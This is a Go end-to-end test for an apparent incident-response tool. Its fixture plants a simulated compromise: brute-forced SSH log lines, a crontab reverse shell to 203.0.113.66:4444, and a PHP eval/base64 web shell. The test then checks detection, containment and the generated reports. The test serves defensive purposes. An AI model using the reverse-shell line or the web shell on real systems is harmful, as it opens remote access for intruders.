package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
)

func syslogLine(t time.Time, msg string) string {
	return t.UTC().Format("Jan _2 15:04:05") + " web1 " + msg + "\n"
}

// plantedAttack is a fixture root with a brute-forced SSH account, a reverse shell in its
// crontab, and a web shell.
func plantedAttack(t *testing.T) *fixture.Root {
	r := fixture.Debian(t)
	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
	var log strings.Builder
	log.WriteString(syslogLine(t0.Add(-2*time.Hour), "sshd[10]: Accepted password for alice from 192.0.2.10 port 5000 ssh2"))
	for i := 0; i < 40; i++ {
		user := []string{"admin", "oracle", "deploy", "test"}[i%4]
		log.WriteString(syslogLine(t0.Add(time.Duration(i)*time.Second), fmt.Sprintf("sshd[%d]: Failed password for %s from 203.0.113.66 port %d ssh2", 100+i, user, 40000+i)))
	}
	log.WriteString(syslogLine(t0.Add(41*time.Second), "sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"))
	log.WriteString(syslogLine(t0.Add(42*time.Second), "sshd[200]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
	r.File("/var/log/auth.log", log.String(), 0o640)
	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
	r.File("/var/spool/cron/crontabs/deploy", "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o600)
	r.File("/var/www/html/uploads/x.php", "<?php @eval(base64_decode($_POST['x'])); ?>\n", 0o644)
	return r
}

// TestReportEndToEnd runs a case as a responder would (check, investigate, collect, contain)
// on a root with a planted attack, then report --format all, and reads every output.
func TestReportEndToEnd(t *testing.T) {
	host := plantedAttack(t)
	work := t.TempDir()
	caseDir := filepath.Join(work, "case")
	c := func(args ...string) result { return run(t, nil, append([]string{"--case", caseDir, "-q"}, args...)...) }
	if res := c("check", "--root", host.Dir); res.code != 2 {
		t.Fatalf("check: %+v", res)
	}
	if res := c("investigate", "--root", host.Dir); res.code != 2 {
		t.Fatalf("investigate: %+v", res)
	}
	archive := filepath.Join(work, "web1.tar.zst")
	if res := c("collect", "--root", host.Dir, "-o", archive); res.code > 1 {
		t.Fatalf("collect: %+v", res)
	}
	if res := c("contain", "lock-user", "deploy", "--root", host.Dir, "--apply"); res.code != 0 {
		t.Fatalf("contain: %+v", res)
	}
	out := filepath.Join(work, "out")
	res := c("report", "--format", "all", "-o", out)
	if res.code != 0 {
		t.Fatalf("report: %+v", res)
	}
	for _, f := range []string{"report.md", "report.html", "report.json", "indicators.stix.json", "indicators.misp.json", "timeline.timesketch.jsonl",
		"letters/letter-data-protection-authority.txt", "letters/letter-affected-people.txt", "letters/letter-abuse-report.txt", "letters/letter-management.txt"} {
		st, err := os.Stat(filepath.Join(out, f))
		if err != nil || st.Size() == 0 || st.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", f, err, st)
		}
	}
	md, _ := os.ReadFile(filepath.Join(out, "report.md"))
	for _, want := range []string{"**compromised**", "203.0.113.66", "ssh-bruteforce", "lock-user deploy", "sha256", "No loophole in this case", "No rotate in this case",
		"GDPR Art. 33 deadline", "hash chain intact"} {
		if !strings.Contains(string(md), want) {
			t.Errorf("report.md lacks %q", want)
		}
	}
	var rep struct {
		Verdict struct{ Last string }
		Entry   struct{ Addresses []string }
		Custody struct {
			Archives []struct{ SHA256, Sidecar string }
			Journal  struct{ Intact bool }
		}
		Indicators []struct{ Type, Value string }
	}
	data, _ := os.ReadFile(filepath.Join(out, "report.json"))
	if err := json.Unmarshal(data, &rep); err != nil {
		t.Fatal(err)
	}
	sum, _ := os.ReadFile(archive + ".sha256")
	if rep.Verdict.Last != "compromised" || len(rep.Custody.Archives) != 1 || !strings.HasPrefix(string(sum), rep.Custody.Archives[0].SHA256) ||
		!strings.HasPrefix(rep.Custody.Archives[0].Sidecar, "matches") || !rep.Custody.Journal.Intact {
		t.Errorf("report.json: %+v", rep)
	}
	// The report is journaled too, and a second report reads a case that includes it.
	journal, _ := os.ReadFile(filepath.Join(caseDir, "journal.jsonl"))
	if !strings.Contains(string(journal), `"command":"report"`) {
		t.Error("report not journaled")
	}
	// A case copied to another machine (another folder) gives the same facts.
	moved := filepath.Join(work, "moved-case")
	if err := os.Rename(caseDir, moved); err != nil {
		t.Fatal(err)
	}
	res = run(t, nil, "--case", moved, "report", "--format", "json", "-o", "-")
	if res.code != 0 || !strings.Contains(res.stdout, `"last": "compromised"`) || !strings.Contains(res.stdout, "203.0.113.66") {
		t.Errorf("moved case: %+v", res)
	}
	// NOWWHAT_KEEP_CASE=DIR keeps the case for the documentation's examples.
	if keep := os.Getenv("NOWWHAT_KEEP_CASE"); keep != "" {
		if err := os.CopyFS(keep, os.DirFS(moved)); err != nil {
			t.Fatal(err)
		}
	}
	// Bad input.
	if res := run(t, nil, "--case", moved, "report", "--format", "pdf"); res.code == 0 || !strings.Contains(res.stderr, "--format") {
		t.Errorf("bad format: %+v", res)
	}
	if res := run(t, nil, "report"); res.code == 0 || !strings.Contains(res.stderr, "--case") {
		t.Errorf("no case: %+v", res)
	}
	if res := run(t, nil, "--case", filepath.Join(work, "nothing"), "report"); res.code == 0 {
		t.Errorf("missing case: %+v", res)
	}
}
